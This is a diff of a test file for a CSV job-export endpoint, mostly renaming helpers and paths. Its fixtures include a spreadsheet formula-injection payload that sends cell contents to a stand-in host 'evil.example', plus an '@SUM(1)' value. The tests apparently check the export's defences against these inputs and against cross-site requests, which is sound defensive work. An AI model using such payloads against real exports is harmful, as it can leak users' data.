@@ -1,23 +1,23 @@
-/** GET /console-data/jobs.csv: the console's table of jobs as a file. */
+/** GET /console-api/jobs.csv: the console's table of jobs as a file. */
 import { once } from "node:events";
 import { request as httpRequest, type IncomingMessage } from "node:http";
 import { Writable } from "node:stream";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
-import { fileColumns } from "../../src/jobs/job.file.ts";
-import { importJobs } from "../../src/jobs/job.import.ts";
-import { readRows } from "../../src/jobs/job.import.rows.ts";
-import { createJobCodes } from "../../src/jobs/job.codes.ts";
+import { fileColumns } from "../../src/jobs/import-export/file-codec.ts";
+import { importJobs } from "../../src/jobs/import-export/import.ts";
+import { readRows } from "../../src/jobs/import-export/import-rows.ts";
+import { createJobReferenceData } from "../../src/jobs/job.reference-data.ts";
 import { systemActor } from "../../src/platform/principal.ts";
 import { toTypedId } from "../../src/platform/ids.ts";
 import { createLogger } from "../../src/platform/logger.ts";
-import { readCsv } from "../../src/platform/csv.ts";
-import { newPerson, type SignedIn } from "../support/graphql-person.ts";
-import { startTestApp, type Partner, type TestApp } from "../support/start-app.ts";
+import { readCsv } from "../../src/platform/records/csv.ts";
+import { createSignedInUser, type SignedInTestUser } from "../support/accounts/signed-in-user.ts";
+import { startTestApp, type TestOrganization, type TestApp } from "../support/app/app.fixture.ts";
 
 let app: TestApp;
-let agent: Partner;
-let contractor: Partner;
-let owner: SignedIn;
+let agent: TestOrganization;
+let contractor: TestOrganization;
+let owner: SignedInTestUser;
 
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
 
@@ -32,10 +32,10 @@ const lines = new Writable({
 
 beforeAll(async () => {
   app = await startTestApp({}, { logger: createLogger("info", lines) });
-  agent = await app.partner("agent");
-  contractor = await app.partner("contractor");
-  owner = await newPerson(app, agent.id, "member");
-  await app.jobs(agent, [
+  agent = await app.createOrganization("agent");
+  contractor = await app.createOrganization("contractor");
+  owner = await createSignedInUser(app, agent.id, "member");
+  await app.createJobs(agent, [
     {
       markingNumber: "E-1",
       contractor,
@@ -50,7 +50,7 @@ beforeAll(async () => {
       patch: { recipient_name: "@SUM(1)", batch_number: "", normalized_status: "failed" },
     },
   ]);
-  await app.jobs(await app.partner("agent"), [{ markingNumber: "F-1" }]);
+  await app.createJobs(await app.createOrganization("agent"), [{ markingNumber: "F-1" }]);
 });
 
 afterAll(() => app[Symbol.asyncDispose]());
@@ -66,10 +66,10 @@ function pathOf({ filter, orderBy, values }: Question): string {
   if (filter !== undefined) given.set("filter", JSON.stringify(filter));
   if (orderBy !== undefined) given.set("orderBy", JSON.stringify(orderBy));
   if (values !== undefined) given.set("values", values);
-  return `/console-data/jobs.csv?${given.toString()}`;
+  return `/console-api/jobs.csv?${given.toString()}`;
 }
 
-const download = (question: Question, person: Pick<SignedIn, "headers"> = owner) =>
+const download = (question: Question, person: Pick<SignedInTestUser, "headers"> = owner) =>
   app.request(pathOf(question), { headers: person.headers });
 
 /** The rows of the file by the names of its columns. */
@@ -93,9 +93,9 @@ async function importAgain(bytes: Uint8Array) {
   const services = {
     database,
     organizations,
-    codes: createJobCodes(database),
-    announce: () => undefined,
-    happened: () => undefined,
+    referenceData: createJobReferenceData(database),
+    notifyWorkers: () => undefined,
+    notifySubscribers: () => undefined,
   };
   const total = { created: 0, updated: 0, unchanged: 0, failed: 0 };
   const options = { actor: systemActor, requestId: null, dryRun: false };
@@ -121,9 +121,9 @@ const sorted = (texts: readonly string[]): string[] => texts.toSorted();
 describe("200", () => {
   it("has the jobs that the person sees, and nobody else's", async () => {
     expect(sorted(await numbersOf(download({})))).toEqual(["E-1", "E-2", "E-3"]);
-    const carrier = await newPerson(app, contractor.id);
+    const carrier = await createSignedInUser(app, contractor.id);
     expect(await numbersOf(download({}, carrier))).toEqual(["E-1"]);
-    const operator = await newPerson(app, null);
+    const operator = await createSignedInUser(app, null);
     expect(await numbersOf(download({}, operator))).toContain("F-1");
   });
 
@@ -173,9 +173,9 @@ describe("200", () => {
   );
 
   it("goes on from page to page, each job once, whatever the order", async () => {
-    const many = await app.partner("agent");
-    const person = await newPerson(app, many.id);
-    const made = await app.jobs(
+    const many = await app.createOrganization("agent");
+    const person = await createSignedInUser(app, many.id);
+    const made = await app.createJobs(
       many,
       Array.from({ length: 2_350 }, (_, n) => ({
         markingNumber: `M-${String(n).padStart(4, "0")}`,
@@ -190,10 +190,10 @@ describe("200", () => {
   }, 60_000);
 
   it("ends with the client, which is no failure of ours", async () => {
-    const many = await app.partner("agent");
-    const person = await newPerson(app, many.id);
+    const many = await app.createOrganization("agent");
+    const person = await createSignedInUser(app, many.id);
     const long = "x".repeat(4_000);
-    await app.jobs(
+    await app.createJobs(
       many,
       Array.from({ length: 3_000 }, () => ({ patch: { instructions: long } })),
     );
@@ -208,8 +208,8 @@ describe("200", () => {
 
 describe("400", () => {
   it.each([
-    ["a filter that is no JSON", "/console-data/jobs.csv?filter={", "filter"],
-    ["a filter twice", "/console-data/jobs.csv?filter={}&filter={}", "filter"],
+    ["a filter that is no JSON", "/console-api/jobs.csv?filter={", "filter"],
+    ["a filter twice", "/console-api/jobs.csv?filter={}&filter={}", "filter"],
     ["a field that the contract has not", pathOf({ filter: { secret: true } }), "filter"],
     ["a value of another type", pathOf({ filter: { weight: { gt: "much" } } }), "filter.weight.gt"],
     [
@@ -248,7 +248,7 @@ describe("refused", () => {
   });
 
   it("403 from a page of another site", async () => {
-    const { cookie } = owner.browser;
+    const { cookie } = owner.client;
     for (const where of [{}, { origin: "https://evil.example" }, { "sec-fetch-site": "cross-site" }])
       expect((await app.request(pathOf({}), { headers: { cookie, ...where } })).status).toBe(403);
   });
